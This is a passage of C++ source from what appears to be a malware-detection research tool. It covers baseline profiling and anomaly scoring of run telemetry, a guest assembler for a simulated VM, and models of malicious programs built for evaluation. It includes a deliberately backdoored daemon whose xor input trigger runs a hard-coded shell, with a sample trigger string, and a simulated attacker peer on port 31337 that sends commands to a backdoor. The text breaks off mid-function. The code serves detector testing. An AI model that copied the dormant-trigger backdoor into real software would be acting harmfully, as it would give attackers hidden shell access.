#include "obs/Telemetry.hh"

namespace hth::anomaly
{

/** Accumulated distribution of one metric across baseline runs. */
struct MetricStats
{
    uint64_t count = 0;     //!< samples folded in
    double sum = 0;
    double sumSq = 0;
    double minValue = 0;
    double maxValue = 0;

    void
    add(double x)
    {
        if (count == 0) {
            minValue = maxValue = x;
        } else {
            minValue = std::min(minValue, x);
            maxValue = std::max(maxValue, x);
        }
        ++count;
        sum += x;
        sumSq += x * x;
    }

    double
    mean() const
    {
        return count ? sum / (double)count : 0.0;
    }

    /** Population variance; clamped at zero against rounding. */
    double
    variance() const
    {
        if (count == 0)
            return 0.0;
        double m = mean();
        return std::max(0.0, sumSq / (double)count - m * m);
    }

    double stddev() const { return std::sqrt(variance()); }

    bool
    operator==(const MetricStats &) const = default;
};

/**
 * The distribution of a trusted scenario's telemetry across N
 * seeded runs. `name` identifies what was profiled (a scenario id);
 * a scorer refuses to apply a profile to a differently named run
 * unless told otherwise, so a baseline recorded for one program is
 * never silently used to judge another.
 */
struct BaselineProfile
{
    /** Bumped whenever the serialized shape changes. */
    static constexpr int FORMAT_VERSION = 1;

    std::string name;
    uint32_t samples = 0;       //!< baseline runs folded in

    /** Counter and gauge distributions, keyed by metric name.
     * Gauges are stored under their registry name; the two spaces
     * share one map because registry names never collide. */
    std::map<std::string, MetricStats> metrics;

    bool
    operator==(const BaselineProfile &) const = default;
};

/**
 * Folds telemetry snapshots into a BaselineProfile. Counters and
 * gauge levels are profiled; phase wall times and histograms are
 * not (wall time is nondeterministic — see the determinism test —
 * and histograms only appear in merged fleet telemetry).
 */
class BaselineBuilder
{
  public:
    explicit BaselineBuilder(std::string name);

    /** Fold one clean run in. */
    void addSample(const obs::RunTelemetry &telemetry);

    /** Finish; fatal() when no samples were added. */
    BaselineProfile build() const;

    uint32_t samples() const { return samples_; }

  private:
    std::string name_;
    uint32_t samples_ = 0;
    std::map<std::string, MetricStats> metrics_;
};

/**
 * Run @p runner once per seed and fold every snapshot — the
 * "BaselineProfiler" front door. The runner owns scenario mechanics
 * (this layer knows nothing about kernels or workloads); it gets
 * the seed and returns the finished run's telemetry.
 */
BaselineProfile
profileBaseline(const std::string &name,
                const std::vector<uint32_t> &seeds,
                const std::function<obs::RunTelemetry(uint32_t)> &runner);

/**
 * Byte-stable JSON-lines serialization:
 *
 *   {"type":"baseline","version":1,"name":...,"samples":N}
 *   {"type":"metric","name":...,"count":N,"sum":...,"sumsq":...,
 *    "min":...,"max":...}
 *
 * Metrics emit in map (byte) order and doubles print with %.17g,
 * so serialize∘parse is the identity on serialized text.
 */
std::string serializeBaseline(const BaselineProfile &profile);

/**
 * Parse text produced by serializeBaseline(). Rejects — with a
 * diagnostic naming the problem, never by mis-scoring — a missing
 * header, an unsupported version, duplicate or malformed metric
 * records, and unknown record types.
 */
BaselineProfile parseBaseline(const std::string &text);

/** Write @p profile to @p path; fatal() on I/O failure. */
void saveBaseline(const std::string &path,
                  const BaselineProfile &profile);

/** Load and parse @p path; fatal() when unreadable or invalid. */
BaselineProfile loadBaseline(const std::string &path);

} // namespace hth::anomaly

#endif // HTH_ANOMALY_BASELINE_HH
