/**
 * @file
 * Deviation scoring: one RunTelemetry snapshot against a
 * BaselineProfile.
 *
 * Each scored metric gets a capped z-score against the baseline
 * distribution; the aggregate is the root-mean-square of the capped
 * z's — a diagonal Mahalanobis distance with per-metric variance
 * floors. Policies the tests pin down:
 *
 *  - Zero variance never divides by zero: the effective sigma is
 *    max(stddev, absFloor + relFloor * |mean|). A constant baseline
 *    metric that moves at all therefore scores, but a one-count
 *    wobble on a million-scale counter does not.
 *  - A metric present in the run but absent from the baseline is
 *    *novel* — a syscall the trusted program never made, a rule that
 *    never fired — and scores the full cap.
 *  - A metric in the baseline but missing from the run scores as an
 *    observation of zero (set-semantics harvest only omits metrics
 *    that never incremented).
 *  - Metrics under an excluded prefix (fleet plumbing, the anomaly
 *    subsystem's own counters) are never scored; nondeterministic
 *    wall times never reach the scorer because baselines only hold
 *    counters and gauges.
 */

#ifndef HTH_ANOMALY_SCORER_HH
#define HTH_ANOMALY_SCORER_HH

#include <string>
#include <vector>

#include "anomaly/Baseline.hh"
#include "obs/Telemetry.hh"

namespace hth::anomaly
{

/** Knobs for scoreTelemetry(); the defaults are the tuned ones. */
struct ScorerConfig
{
    /** z-scores are capped here so one wild metric cannot swamp the
     * aggregate, and novel metrics score exactly this much. */
    double zCap = 8.0;

    /** Effective sigma floor: absFloor + relFloor * |mean|. */
    double absFloor = 2.0;
    double relFloor = 0.02;

    /** Aggregate at or above this is anomalous. */
    double threshold = 1.0;

    /** Metric-name prefixes dropped before scoring. */
    std::vector<std::string> excludePrefixes = {"fleet.",
                                                "anomaly."};

    /** When false (default), scoring a run against a baseline whose
     * name differs is a fatal error — a recorded profile for one
     * scenario must not silently judge another. hthd's single
     * `--baseline FILE` mode opts out deliberately. */
    bool allowNameMismatch = false;
};

/** One scored metric's contribution. */
struct MetricDeviation
{
    std::string metric;
    double observed = 0;        //!< the run's value
    double mean = 0;            //!< baseline mean
    double sigma = 0;           //!< effective (floored) sigma
    double z = 0;               //!< capped |observed-mean|/sigma
    bool novel = false;         //!< absent from the baseline
};

/** The verdict for one run. */
struct AnomalyScore
{
    std::string baselineName;
    double aggregate = 0;       //!< RMS of capped z-scores
    double maxZ = 0;
    uint32_t scored = 0;        //!< metrics that contributed
    uint32_t novelMetrics = 0;
    bool anomalous = false;     //!< aggregate >= threshold

    /** Worst offenders, highest z first (ties by name), capped at
     * topLimit entries for report brevity. */
    std::vector<MetricDeviation> top;

    static constexpr size_t topLimit = 8;
};

/**
 * Score @p run against @p baseline under @p config.
 * @p runName is the scenario id of the run being judged; it must
 * match baseline.name unless config.allowNameMismatch.
 */
AnomalyScore scoreTelemetry(const obs::RunTelemetry &run,
                            const std::string &runName,
                            const BaselineProfile &baseline,
                            const ScorerConfig &config = {});

} // namespace hth::anomaly

#endif // HTH_ANOMALY_SCORER_HH
