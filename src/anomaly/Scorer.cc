#include "anomaly/Scorer.hh"

#include <algorithm>
#include <cmath>

#include "support/Logging.hh"

namespace hth::anomaly
{

namespace
{

bool
excluded(const std::string &metric, const ScorerConfig &config)
{
    for (const auto &prefix : config.excludePrefixes)
        if (metric.compare(0, prefix.size(), prefix) == 0)
            return true;
    return false;
}

double
effectiveSigma(const MetricStats &stats, const ScorerConfig &config)
{
    double floor =
        config.absFloor + config.relFloor * std::fabs(stats.mean());
    return std::max(stats.stddev(), floor);
}

} // namespace

AnomalyScore
scoreTelemetry(const obs::RunTelemetry &run,
               const std::string &runName,
               const BaselineProfile &baseline,
               const ScorerConfig &config)
{
    fatalIf(baseline.metrics.empty(),
            "anomaly: baseline '", baseline.name, "' has no metrics");
    fatalIf(!config.allowNameMismatch && runName != baseline.name,
            "anomaly: run '", runName,
            "' scored against baseline '", baseline.name,
            "' — record a baseline for this scenario or pass a "
            "matching one");

    // Flatten the run's counters and gauge levels into one ordered
    // view, mirroring how BaselineBuilder folded its samples.
    std::map<std::string, double> observed;
    for (const auto &[name, value] : run.metrics.counters)
        observed[name] = (double)value;
    for (const auto &[name, value] : run.metrics.gauges)
        observed[name] = (double)value.value;

    AnomalyScore score;
    score.baselineName = baseline.name;

    std::vector<MetricDeviation> deviations;
    double sumSqZ = 0;

    auto fold = [&](MetricDeviation d) {
        sumSqZ += d.z * d.z;
        ++score.scored;
        score.maxZ = std::max(score.maxZ, d.z);
        deviations.push_back(std::move(d));
    };

    // Baseline-known metrics: a metric the run never incremented is
    // harvested as absent, which means it was observed at zero.
    for (const auto &[name, stats] : baseline.metrics) {
        if (excluded(name, config))
            continue;
        MetricDeviation d;
        d.metric = name;
        auto it = observed.find(name);
        d.observed = it == observed.end() ? 0.0 : it->second;
        d.mean = stats.mean();
        d.sigma = effectiveSigma(stats, config);
        d.z = std::min(config.zCap,
                       std::fabs(d.observed - d.mean) / d.sigma);
        fold(std::move(d));
    }

    // Novel metrics: behaviour the trusted program never exhibited
    // across any baseline seed. Maximal evidence by construction.
    for (const auto &[name, value] : observed) {
        if (excluded(name, config) || baseline.metrics.count(name))
            continue;
        MetricDeviation d;
        d.metric = name;
        d.observed = value;
        d.sigma = effectiveSigma(MetricStats{}, config);
        d.z = config.zCap;
        d.novel = true;
        ++score.novelMetrics;
        fold(std::move(d));
    }

    if (score.scored)
        score.aggregate = std::sqrt(sumSqZ / (double)score.scored);
    score.anomalous = score.aggregate >= config.threshold;

    std::sort(deviations.begin(), deviations.end(),
              [](const MetricDeviation &a, const MetricDeviation &b) {
                  if (a.z != b.z)
                      return a.z > b.z;
                  return a.metric < b.metric;
              });
    if (deviations.size() > AnomalyScore::topLimit)
        deviations.resize(AnomalyScore::topLimit);
    score.top = std::move(deviations);
    return score;
}

} // namespace hth::anomaly
