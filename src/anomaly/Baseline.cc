#include "anomaly/Baseline.hh"

#include <cstdio>
#include <fstream>
#include <sstream>

#include "obs/StatsSink.hh"
#include "support/Json.hh"
#include "support/Logging.hh"

namespace hth::anomaly
{

using support::JsonValue;

BaselineBuilder::BaselineBuilder(std::string name)
    : name_(std::move(name))
{
}

void
BaselineBuilder::addSample(const obs::RunTelemetry &telemetry)
{
    ++samples_;
    for (const auto &[name, value] : telemetry.metrics.counters)
        metrics_[name].add((double)value);
    for (const auto &[name, value] : telemetry.metrics.gauges)
        metrics_[name].add((double)value.value);
    // A metric absent from this snapshot but seen before is an
    // observation of zero, not a gap — e.g. a per-rule activation
    // counter that only some seeds trip. Without this, its variance
    // would understate and its mean overstate.
    for (auto &[name, stats] : metrics_)
        while (stats.count < samples_)
            stats.add(0.0);
}

BaselineProfile
BaselineBuilder::build() const
{
    fatalIf(samples_ == 0,
            "baseline '", name_, "': no samples folded in");
    BaselineProfile profile;
    profile.name = name_;
    profile.samples = samples_;
    profile.metrics = metrics_;
    return profile;
}

BaselineProfile
profileBaseline(const std::string &name,
                const std::vector<uint32_t> &seeds,
                const std::function<obs::RunTelemetry(uint32_t)> &runner)
{
    fatalIf(seeds.empty(), "baseline '", name, "': no seeds");
    BaselineBuilder builder(name);
    for (uint32_t seed : seeds)
        builder.addSample(runner(seed));
    return builder.build();
}

namespace
{

/** %.17g: the shortest text that reparses to the same double. */
std::string
fmtDouble(double v)
{
    char buf[40];
    std::snprintf(buf, sizeof buf, "%.17g", v);
    return buf;
}

} // namespace

std::string
serializeBaseline(const BaselineProfile &profile)
{
    std::ostringstream out;
    out << "{\"type\":\"baseline\",\"version\":"
        << BaselineProfile::FORMAT_VERSION << ",\"name\":\""
        << obs::jsonEscape(profile.name)
        << "\",\"samples\":" << profile.samples << "}\n";
    for (const auto &[name, s] : profile.metrics)
        out << "{\"type\":\"metric\",\"name\":\""
            << obs::jsonEscape(name) << "\",\"count\":" << s.count
            << ",\"sum\":" << fmtDouble(s.sum)
            << ",\"sumsq\":" << fmtDouble(s.sumSq)
            << ",\"min\":" << fmtDouble(s.minValue)
            << ",\"max\":" << fmtDouble(s.maxValue) << "}\n";
    return out.str();
}

BaselineProfile
parseBaseline(const std::string &text)
{
    BaselineProfile profile;
    bool sawHeader = false;
    size_t lineno = 0;
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line)) {
        ++lineno;
        if (line.empty())
            continue;
        JsonValue v = support::parseJson(line);
        fatalIf(!v.isObject() || !v.has("type"),
                "baseline line ", lineno, ": not a typed record");
        const std::string &type = v.at("type").str();
        if (type == "baseline") {
            fatalIf(sawHeader,
                    "baseline line ", lineno, ": duplicate header");
            int version = (int)v.at("version").number();
            fatalIf(version != BaselineProfile::FORMAT_VERSION,
                    "baseline: format version ", version,
                    " unsupported (this build reads version ",
                    BaselineProfile::FORMAT_VERSION, ")");
            profile.name = v.at("name").str();
            profile.samples = (uint32_t)v.at("samples").number();
            sawHeader = true;
        } else if (type == "metric") {
            fatalIf(!sawHeader, "baseline line ", lineno,
                    ": metric record before header");
            const std::string &name = v.at("name").str();
            MetricStats s;
            s.count = (uint64_t)v.at("count").number();
            s.sum = v.at("sum").number();
            s.sumSq = v.at("sumsq").number();
            s.minValue = v.at("min").number();
            s.maxValue = v.at("max").number();
            fatalIf(s.count == 0 || s.count > profile.samples,
                    "baseline line ", lineno, ": metric '", name,
                    "' has implausible count ", s.count);
            bool inserted =
                profile.metrics.emplace(name, s).second;
            fatalIf(!inserted, "baseline line ", lineno,
                    ": duplicate metric '", name, "'");
        } else {
            fatal("baseline line ", lineno,
                  ": unknown record type '", type, "'");
        }
    }
    fatalIf(!sawHeader, "baseline: no header record");
    fatalIf(profile.samples == 0, "baseline: zero samples");
    fatalIf(profile.metrics.empty(), "baseline: no metric records");
    return profile;
}

void
saveBaseline(const std::string &path, const BaselineProfile &profile)
{
    std::ofstream out(path, std::ios::binary);
    fatalIf(!out, "baseline: cannot write ", path);
    out << serializeBaseline(profile);
    out.flush();
    fatalIf(!out, "baseline: write to ", path, " failed");
}

BaselineProfile
loadBaseline(const std::string &path)
{
    std::ifstream in(path, std::ios::binary);
    fatalIf(!in, "baseline: cannot read ", path);
    std::ostringstream text;
    text << in.rdbuf();
    return parseBaseline(text.str());
}

} // namespace hth::anomaly
