/**
 * @file
 * Table 1 characterisation models (paper §2).
 *
 * Behavioural models of the nine malicious-code examples of §2.1.
 * Each model is a guest program exhibiting the execution patterns
 * the paper attributes to the real exploit; the Table 1 matrix is
 * *regenerated* from measured signals rather than hand-written:
 *
 *  - no user intervention — the malicious behaviour fired without
 *    any user-supplied parameters;
 *  - remotely directed    — warnings carry socket-origin or
 *    backdoor-server context;
 *  - hard-coded resources — some resource's name provenance includes
 *    an untrusted BINARY source;
 *  - degrading performance — resource-abuse warnings fired or the
 *    heap grew past the abuse threshold.
 */

#ifndef HTH_WORKLOADS_CHARACTERIZE_HH
#define HTH_WORKLOADS_CHARACTERIZE_HH

#include <vector>

#include "workloads/Scenario.hh"

namespace hth::workloads
{

/** Expected Table 1 row. */
struct PatternRow
{
    bool noUserIntervention = false;
    bool remotelyDirected = false;
    bool hardcodedResources = false;
    bool degradingPerformance = false;
};

/** One characterised exploit model. */
struct CharacterizedExploit
{
    Scenario scenario;
    PatternRow expected;
};

/** The nine §2.1 exploit models, in the paper's order. */
std::vector<CharacterizedExploit> characterizationModels();

/** Derive the Table 1 row from a scenario result. */
PatternRow derivePatterns(const Scenario &scenario,
                          const ScenarioResult &result);

} // namespace hth::workloads

#endif // HTH_WORKLOADS_CHARACTERIZE_HH
