#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;

Gasm::Gasm(std::string path, bool shared_object)
    : vm::Asm(std::move(path), shared_object)
{
    scratch_ = dataSpace("__sockargs", 16);
}

std::string
Gasm::freshLabel(const std::string &stem)
{
    return "__" + stem + "_" + std::to_string(++labelCounter_);
}

void
Gasm::sysc(int num)
{
    movi(Reg::Eax, num);
    int80();
}

void
Gasm::exit(int code)
{
    movi(Reg::Ebx, code);
    sysc(NR_exit);
}

void
Gasm::openSym(const std::string &path_sym, int flags)
{
    leaSym(Reg::Ebx, path_sym);
    movi(Reg::Ecx, flags);
    sysc(NR_open);
}

void
Gasm::openReg(Reg path_reg, int flags)
{
    if (path_reg != Reg::Ebx)
        mov(Reg::Ebx, path_reg);
    movi(Reg::Ecx, flags);
    sysc(NR_open);
}

void
Gasm::creatSym(const std::string &path_sym)
{
    leaSym(Reg::Ebx, path_sym);
    movi(Reg::Ecx, 0644);
    sysc(NR_creat);
}

void
Gasm::creatReg(Reg path_reg)
{
    if (path_reg != Reg::Ebx)
        mov(Reg::Ebx, path_reg);
    movi(Reg::Ecx, 0644);
    sysc(NR_creat);
}

void
Gasm::readSym(int fd, const std::string &buf_sym, int len)
{
    movi(Reg::Ebx, fd);
    leaSym(Reg::Ecx, buf_sym);
    movi(Reg::Edx, len);
    sysc(NR_read);
}

void
Gasm::readFd(Reg fd_reg, const std::string &buf_sym, int len)
{
    if (fd_reg != Reg::Ebx)
        mov(Reg::Ebx, fd_reg);
    leaSym(Reg::Ecx, buf_sym);
    movi(Reg::Edx, len);
    sysc(NR_read);
}

void
Gasm::writeSym(int fd, const std::string &data_sym, int len)
{
    movi(Reg::Ebx, fd);
    leaSym(Reg::Ecx, data_sym);
    movi(Reg::Edx, len);
    sysc(NR_write);
}

void
Gasm::writeFd(Reg fd_reg, const std::string &buf_sym, int len)
{
    if (fd_reg != Reg::Ebx)
        mov(Reg::Ebx, fd_reg);
    leaSym(Reg::Ecx, buf_sym);
    movi(Reg::Edx, len);
    sysc(NR_write);
}

void
Gasm::writeRegs(Reg fd_reg, Reg buf_reg, Reg len_reg)
{
    if (len_reg != Reg::Edx)
        mov(Reg::Edx, len_reg);
    if (buf_reg != Reg::Ecx)
        mov(Reg::Ecx, buf_reg);
    if (fd_reg != Reg::Ebx)
        mov(Reg::Ebx, fd_reg);
    sysc(NR_write);
}

void
Gasm::closeFd(Reg fd_reg)
{
    if (fd_reg != Reg::Ebx)
        mov(Reg::Ebx, fd_reg);
    sysc(NR_close);
}

void
Gasm::execveSym(const std::string &path_sym)
{
    leaSym(Reg::Ebx, path_sym);
    movi(Reg::Ecx, 0);
    movi(Reg::Edx, 0);
    sysc(NR_execve);
}

void
Gasm::execveReg(Reg path_reg)
{
    if (path_reg != Reg::Ebx)
        mov(Reg::Ebx, path_reg);
    movi(Reg::Ecx, 0);
    movi(Reg::Edx, 0);
    sysc(NR_execve);
}

void
Gasm::fork()
{
    sysc(NR_fork);
}

void
Gasm::sleepTicks(int ticks)
{
    movi(Reg::Ebx, ticks);
    sysc(NR_nanosleep);
}

void
Gasm::chmodSym(const std::string &path_sym)
{
    leaSym(Reg::Ebx, path_sym);
    movi(Reg::Ecx, 0755);
    sysc(NR_chmod);
}

void
Gasm::getpid()
{
    sysc(NR_getpid);
}

//
// Socket helpers: the kernel reads the argument block at ECX.
//

void
Gasm::sockCreate()
{
    leaSym(Reg::Esi, scratch_);
    movi(Reg::Edi, 2); // AF_INET
    store(Reg::Esi, 0, Reg::Edi);
    movi(Reg::Edi, 1); // SOCK_STREAM
    store(Reg::Esi, 4, Reg::Edi);
    movi(Reg::Edi, 0);
    store(Reg::Esi, 8, Reg::Edi);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_socket);
    sysc(NR_socketcall);
}

void
Gasm::sockConnect(Reg fd, Reg addr_ptr)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    store(Reg::Esi, 4, addr_ptr);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_connect);
    sysc(NR_socketcall);
}

void
Gasm::sockBind(Reg fd, Reg addr_ptr)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    store(Reg::Esi, 4, addr_ptr);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_bind);
    sysc(NR_socketcall);
}

void
Gasm::sockListen(Reg fd)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    movi(Reg::Edi, 8);
    store(Reg::Esi, 4, Reg::Edi);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_listen);
    sysc(NR_socketcall);
}

void
Gasm::sockAccept(Reg fd)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_accept);
    sysc(NR_socketcall);
}

void
Gasm::sockSend(Reg fd, Reg buf, Reg len)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    store(Reg::Esi, 4, buf);
    store(Reg::Esi, 8, len);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_send);
    sysc(NR_socketcall);
}

void
Gasm::sockRecv(Reg fd, Reg buf, int len)
{
    leaSym(Reg::Esi, scratch_);
    store(Reg::Esi, 0, fd);
    store(Reg::Esi, 4, buf);
    movi(Reg::Edi, len);
    store(Reg::Esi, 8, Reg::Edi);
    mov(Reg::Ecx, Reg::Esi);
    movi(Reg::Ebx, SOCKOP_recv);
    sysc(NR_socketcall);
}

//
// libc cdecl wrappers
//

void
Gasm::libc1(const std::string &fn, const std::string &arg_sym)
{
    pushSym(arg_sym);
    callImport(fn);
    addi(Reg::Esp, 4);
}

void
Gasm::libc1r(const std::string &fn, Reg arg)
{
    push(arg);
    callImport(fn);
    addi(Reg::Esp, 4);
}

void
Gasm::libc2(const std::string &fn, const std::string &a_sym,
            const std::string &b_sym)
{
    pushSym(b_sym);
    pushSym(a_sym);
    callImport(fn);
    addi(Reg::Esp, 8);
}

void
Gasm::libc2r(const std::string &fn, Reg a, Reg b)
{
    push(b);
    push(a);
    callImport(fn);
    addi(Reg::Esp, 8);
}

void
Gasm::inlineStrcpy(Reg dst_reg, Reg src_reg)
{
    std::string loop = freshLabel("strcpy_loop");
    std::string done = freshLabel("strcpy_done");
    mov(Reg::Esi, src_reg);
    mov(Reg::Edi, dst_reg);
    label(loop);
    loadb(Reg::Eax, Reg::Esi, 0);
    storeb(Reg::Edi, 0, Reg::Eax);
    cmpi(Reg::Eax, 0);
    jz(done);
    addi(Reg::Esi, 1);
    addi(Reg::Edi, 1);
    jmp(loop);
    label(done);
}

void
Gasm::loadArgv(int i)
{
    load(Reg::Eax, Reg::Ebx, 4 * i);
}

//
// Shared guests
//

std::shared_ptr<const vm::Image>
makeNoopBinary(const std::string &path)
{
    Gasm a(path);
    a.label("main");
    a.entry("main");
    a.exit(0);
    return a.build();
}

std::shared_ptr<const vm::Image>
makeLsBinary()
{
    // Opens the hard-coded "." directory listing and prints it —
    // reproducing what the paper observes for ls: "." is opened and
    // the origin is binary (hardcoded), but no warning is issued.
    Gasm a("/bin/ls");
    a.dataString("dot", ".");
    a.dataSpace("buf", 256);
    a.label("main");
    a.entry("main");
    a.openSym("dot", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "buf", 256);
    a.mov(Reg::Edx, Reg::Eax);         // length read
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.sysc(os::NR_write);
    a.closeFd(Reg::Ebp);
    a.exit(0);
    return a.build();
}

std::shared_ptr<const vm::Image>
makeCshBinary()
{
    // A miniature interactive shell: reads one command per read()
    // from stdin, answers on stdout. Understands "echo <text>" and
    // "ls"; exits at EOF. The pma daemon redirects its stdin/stdout
    // to the FIFOs it created.
    Gasm a("/bin/csh");
    a.dataSpace("cmd", 128);
    a.dataString("listing", "pmad\ncore\nnotes.txt\n");
    a.dataSpace("zero", 4);

    a.label("main");
    a.entry("main");

    a.label("loop");
    // Clear the first byte so stale commands do not replay.
    a.movi(Reg::Eax, 0);
    a.leaSym(Reg::Edi, "cmd");
    a.storeb(Reg::Edi, 0, Reg::Eax);
    a.readSym(0, "cmd", 127);
    a.cmpi(Reg::Eax, 0);
    a.jz("done");                       // EOF

    // "echo ..." -> print the rest of the line.
    a.leaSym(Reg::Esi, "cmd");
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.cmpi(Reg::Eax, 'e');
    a.jnz("try_ls");
    // print cmd+5 until NUL / newline boundary: find length first.
    a.lea(Reg::Edi, Reg::Esi, 5);       // skip "echo "
    a.movi(Reg::Edx, 0);
    a.label("len_loop");
    a.mov(Reg::Ecx, Reg::Edi);
    a.add(Reg::Ecx, Reg::Edx);
    a.loadb(Reg::Eax, Reg::Ecx, 0);
    a.cmpi(Reg::Eax, 0);
    a.jz("len_done");
    a.addi(Reg::Edx, 1);
    a.jmp("len_loop");
    a.label("len_done");
    a.movi(Reg::Ebx, 1);
    a.mov(Reg::Ecx, Reg::Edi);
    a.sysc(os::NR_write);
    a.jmp("loop");

    a.label("try_ls");
    a.cmpi(Reg::Eax, 'l');
    a.jnz("loop");
    a.writeSym(1, "listing", 20);
    a.jmp("loop");

    a.label("done");
    a.exit(0);
    return a.build();
}

} // namespace hth::workloads
