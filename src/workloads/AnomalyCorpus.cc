#include "workloads/AnomalyCorpus.hh"

#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;
using secpert::Severity;

namespace
{

/**
 * Deterministic seed-dependent command text: lowercase letters plus
 * a trailing newline, 48..303 bytes. Lowercase is trigger-proof by
 * construction — two bytes in [0x61,0x7a] share the 0x60 bits, so
 * their xor is below 0x20, and every key in the backdoor's table is
 * above it.
 */
std::string
seedCommand(uint32_t seed)
{
    uint32_t len = 48 + (seed * 2246822519u) % 256;
    std::string out = "sync ";
    out.reserve(len + 6);
    uint32_t x = seed * 374761393u + 668265263u;
    for (uint32_t i = 0; i < len; ++i) {
        x = x * 1664525u + 1013904223u;
        out.push_back((char)('a' + ((x >> 16) % 26)));
    }
    out.push_back('\n');
    return out;
}

/**
 * syncd: read a command from stdin, byte-sum it (per-byte loop, so
 * clean telemetry scales with input length), print a status line.
 * With `backdoored`, a second pass scans every adjacent byte pair
 * against a 4-entry xor key table and execs a hard-coded shell on a
 * match — the InputByte-xor-InputByte guard the static pass cannot
 * model.
 */
std::shared_ptr<const vm::Image>
makeSyncd(bool backdoored)
{
    Gasm a("/sbin/syncd");
    a.dataString("status", "syncd: ok\n");
    a.dataSpace("cmdbuf", 384);
    if (backdoored) {
        a.dataString("shell", "/bin/sh");
        a.dataBytes("keys", {0x2b, 0x33, 0x35, 0x39});
    }

    a.label("main");
    a.entry("main");
    a.readSym(0, "cmdbuf", 384);
    a.mov(Reg::Ebp, Reg::Eax);              // length

    // The daemon's real work: byte-sum the command.
    a.movi(Reg::Ecx, 0);
    a.movi(Reg::Edi, 0);
    a.label("sum_loop");
    a.cmp(Reg::Ecx, Reg::Ebp);
    a.jge("sum_done");
    a.leaSym(Reg::Eax, "cmdbuf");
    a.add(Reg::Eax, Reg::Ecx);
    a.loadb(Reg::Edx, Reg::Eax, 0);
    a.add(Reg::Edi, Reg::Edx);
    a.addi(Reg::Ecx, 1);
    a.jmp("sum_loop");
    a.label("sum_done");

    if (backdoored) {
        // Trigger scan: for every adjacent pair, compare the xor
        // against each table key. Nested, so the dormant backdoor
        // costs several times the daemon's own per-byte work — the
        // statistical shadow the baseline scorer sees.
        a.movi(Reg::Ecx, 0);                // pair index
        a.label("scan_loop");
        a.mov(Reg::Eax, Reg::Ecx);
        a.addi(Reg::Eax, 1);
        a.cmp(Reg::Eax, Reg::Ebp);
        a.jge("scan_done");
        a.leaSym(Reg::Esi, "cmdbuf");
        a.add(Reg::Esi, Reg::Ecx);
        a.loadb(Reg::Eax, Reg::Esi, 0);
        a.loadb(Reg::Edx, Reg::Esi, 1);
        a.xor_(Reg::Eax, Reg::Edx);         // cmd[i] ^ cmd[i+1]
        a.movi(Reg::Edx, 0);                // key index
        a.label("key_loop");
        a.cmpi(Reg::Edx, 4);
        a.jge("next_pair");
        a.leaSym(Reg::Esi, "keys");
        a.add(Reg::Esi, Reg::Edx);
        a.loadb(Reg::Ebx, Reg::Esi, 0);
        a.cmp(Reg::Eax, Reg::Ebx);
        a.jz("wake");
        a.addi(Reg::Edx, 1);
        a.jmp("key_loop");
        a.label("next_pair");
        a.addi(Reg::Ecx, 1);
        a.jmp("scan_loop");

        a.label("wake");
        a.execveSym("shell");
        a.exit(1);
        a.label("scan_done");
    }

    a.writeSym(1, "status", 10);
    a.exit(0);
    return a.build();
}

} // namespace

std::vector<Scenario>
anomalyScenarios()
{
    std::vector<Scenario> out;

    {
        auto image = makeSyncd(false);
        Scenario s;
        s.id = "syncd (clean)";
        s.description =
            "trusted status daemon, seed-varied command length";
        s.path = image->path;
        s.stdinData = seedCommand(1);
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        s.reseed = [](Scenario &sc, uint32_t seed) {
            sc.stdinData = seedCommand(seed);
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeSyncd(true);
        Scenario s;
        s.id = "syncd (backdoored)";
        s.description =
            "trojaned syncd rebuild, benign input: the paired-byte "
            "trigger is invisible to the static pass and fires no "
            "dynamic rule — only the baseline scorer flags it";
        s.path = image->path;
        s.stdinData = seedCommand(1);
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addBinary("/bin/sh", makeNoopBinary("/bin/sh"));
        };
        s.reseed = [](Scenario &sc, uint32_t seed) {
            sc.stdinData = seedCommand(seed);
        };
        // Dynamically and statically clean by design; the anomaly
        // evaluation proves the statistical path catches it.
        s.expectMalicious = false;
        out.push_back(std::move(s));
    }

    {
        auto image = makeSyncd(true);
        Scenario s;
        s.id = "syncd (woken)";
        s.description =
            "trojaned syncd fed a trigger pair ('G' xor 'l' = 0x2b): "
            "the dormant exec path goes live";
        s.path = image->path;
        s.stdinData = "sync Gl\n";
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addBinary("/bin/sh", makeNoopBinary("/bin/sh"));
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    return out;
}

std::shared_ptr<const vm::Image>
makeSyncdImage()
{
    return makeSyncd(false);
}

std::shared_ptr<const vm::Image>
makeSyncdBackdooredImage()
{
    return makeSyncd(true);
}

} // namespace hth::workloads
