#include "workloads/Characterize.hh"

#include <algorithm>

#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;

namespace
{

/** Wire a generic "attacker command" remote client for a backdoor
 * that listens on @p addr: it sends one command and hangs up. */
void
wireBackdoorAttacker(Kernel &k, const std::string &addr,
                     const std::string &command)
{
    RemotePeer attacker;
    attacker.name = "gateway:31337";
    attacker.onConnect = [command](RemoteConn &c) {
        c.send(command);
    };
    auto replied = std::make_shared<bool>(false);
    attacker.onData = [replied](RemoteConn &c, const std::string &) {
